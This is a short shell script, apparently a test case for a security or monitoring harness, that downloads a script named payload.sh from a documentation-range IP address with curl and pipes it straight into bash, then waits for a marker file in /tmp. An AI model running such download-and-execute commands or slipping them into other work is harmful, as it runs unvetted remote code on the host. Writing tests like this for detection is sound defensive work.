#!/bin/sh
. /opt/case/case.sh

bash -c 'bash <(curl -fsSL http://203.0.113.10/payload.sh)'
wait_for /tmp/reached
took_place
